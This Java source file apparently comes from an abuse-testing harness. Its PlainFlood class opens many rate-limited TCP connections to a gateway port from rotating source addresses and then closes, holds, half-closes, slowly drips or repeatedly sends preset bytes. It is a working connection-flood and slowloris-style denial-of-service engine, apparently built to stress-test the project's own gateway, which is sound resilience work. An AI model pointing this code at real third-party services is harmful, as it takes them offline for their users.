package io.adjourn.abuse;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.time.Duration;
import java.util.List;

/**
 * Connections that send bytes made beforehand, by one thread as fast as it can: the attacker is not to be what is slow.
 *
 * @param addresses the strangers' own, in turn
 * @param connections how many are open at once; one that is closed is opened again
 * @param perSecond how many are opened a second at most
 * @param opening what each sends first
 * @param then what it does after that
 */
@SuppressWarnings("ArrayRecordComponent") // never compared
record PlainFlood(List<InetAddress> addresses, int connections, int perSecond, byte[] opening, Then then)
        implements Flood {
    private static final int OPENED_AT_A_TIME = 128;
    private static final int SMALLEST_BUFFER = 1024;
    private static final long TURN_MILLIS = 5;
    private static final long LOOK_NANOS = 20_000_000;

    /** What a connection does once its opening is sent. */
    sealed interface Then {
        /** Closes. */
        record Close() implements Then {}

        /** Tells that nothing more will come, and waits. */
        record CloseHalf() implements Then {}

        /** Waits until the gateway closes it. */
        record Hold() implements Then {}

        /** Sends more now and then. */
        record Drip(byte[] more, Duration every) implements Then {}

        /** Sends more all the time, reading the answers or not. */
        record Repeat(byte[] more, boolean reads) implements Then {}
    }

    /** What is kept of one connection: the bytes it has still to send, and when it sends more. */
    private static final class Connection {
        private final ByteBuffer unsent;
        private boolean opened;
        private long dripAt;

        Connection(ByteBuffer unsent) {
            this.unsent = unsent;
        }
    }

    @Override
    public void run(Victim victim, Progress progress) throws IOException {
        try (var selector = Selector.open()) {
            new Loop(selector, new InetSocketAddress(Victim.GATEWAY, victim.port()), progress).run();
        }
    }

    private final class Loop {
        private final Selector selector;
        private final InetSocketAddress gateway;
        private final Progress progress;
        private final ByteBuffer first = direct(opening);
        private final ByteBuffer more;
        private final ByteBuffer answers = ByteBuffer.allocateDirect(64 * 1024);
        private final long start = System.nanoTime();
        private long opened;
        private long nextLook = start;

        Loop(Selector selector, InetSocketAddress gateway, Progress progress) {
            this.selector = selector;
            this.gateway = gateway;
            this.progress = progress;
            this.more = switch (then) {
                case Then.Drip drip -> direct(drip.more());
                case Then.Repeat repeat -> direct(repeat.more());
                case Then.Close(), Then.CloseHalf(), Then.Hold() -> ByteBuffer.allocate(0);
            };
        }

        void run() throws IOException {
            try {
                while (!progress.isStopped()) {
                    openMore();
                    selector.select(this::serve, TURN_MILLIS);
                    if (then instanceof Then.Drip drip) {
                        drip(drip.every());
                    }
                }
            } finally {
                for (SelectionKey key : selector.keys()) {
                    key.channel().close();
                }
            }
        }

        private void openMore() throws IOException {
            for (int i = 0; i < OPENED_AT_A_TIME && selector.keys().size() < connections && mayOpen(); i++) {
                InetAddress from = addresses.get((int) (opened % addresses.size()));
                var channel = SocketChannel.open();
                channel.configureBlocking(false);
                channel.setOption(StandardSocketOptions.SO_REUSEADDR, true);
                channel.setOption(StandardSocketOptions.TCP_NODELAY, true);
                if (!reads()) {
                    channel.setOption(StandardSocketOptions.SO_RCVBUF, SMALLEST_BUFFER);
                }
                channel.bind(new InetSocketAddress(from, 0));
                SelectionKey key =
                        channel.register(selector, SelectionKey.OP_CONNECT, new Connection(first.duplicate()));
                opened++;
                progress.count();
                try {
                    if (channel.connect(gateway)) {
                        send(key);
                    }
                } catch (IOException e) {
                    end(key);
                }
            }
        }

        private boolean reads() {
            return !(then instanceof Then.Repeat repeat) || repeat.reads();
        }

        private boolean mayOpen() {
            return opened * 1e9 <= (double) perSecond * (System.nanoTime() - start);
        }

        private void serve(SelectionKey key) {
            try {
                var channel = (SocketChannel) key.channel();
                boolean mayWrite = key.isConnectable() || key.isWritable();
                boolean mayRead = key.isReadable();
                if (key.isConnectable()) {
                    channel.finishConnect();
                }
                if (mayRead) {
                    answers.clear();
                    if (channel.read(answers) < 0) {
                        end(key);
                        return;
                    }
                }
                if (mayWrite) {
                    send(key);
                }
            } catch (IOException e) {
                end(key);
            }
        }

        private void send(SelectionKey key) throws IOException {
            var channel = (SocketChannel) key.channel();
            var connection = (Connection) key.attachment();
            channel.write(connection.unsent);
            if (connection.unsent.hasRemaining()) {
                key.interestOps(SelectionKey.OP_WRITE | (reads() ? SelectionKey.OP_READ : 0));
                return;
            }
            if (connection.opened) {
                return;
            }
            switch (then) {
                case Then.Close() -> end(key);
                case Then.CloseHalf() -> {
                    channel.shutdownOutput();
                    key.interestOps(SelectionKey.OP_READ);
                }
                case Then.Hold() -> key.interestOps(SelectionKey.OP_READ);
                case Then.Drip drip -> {
                    connection.opened = true;
                    connection.dripAt = System.nanoTime() + drip.every().toNanos();
                    key.interestOps(SelectionKey.OP_READ);
                }
                case Then.Repeat _ -> {
                    key.attach(new Connection(more.duplicate()));
                    key.interestOps(SelectionKey.OP_WRITE | (reads() ? SelectionKey.OP_READ : 0));
                }
            }
        }

        private void drip(Duration every) {
            long now = System.nanoTime();
            if (now - nextLook < 0) {
                return;
            }
            nextLook = now + LOOK_NANOS;
            for (SelectionKey key : selector.keys()) {
                if (key.isValid()
                        && key.attachment() instanceof Connection connection
                        && connection.opened
                        && now - connection.dripAt >= 0) {
                    connection.dripAt = now + every.toNanos();
                    try {
                        ((SocketChannel) key.channel()).write(more.duplicate());
                    } catch (IOException e) {
                        end(key);
                    }
                }
            }
        }

        private void end(SelectionKey key) {
            try {
                key.channel().close();
            } catch (IOException e) {
                // It is gone either way.
            }
        }

        private static ByteBuffer direct(byte[] bytes) {
            return ByteBuffer.allocateDirect(bytes.length).put(bytes).flip();
        }
    }
}
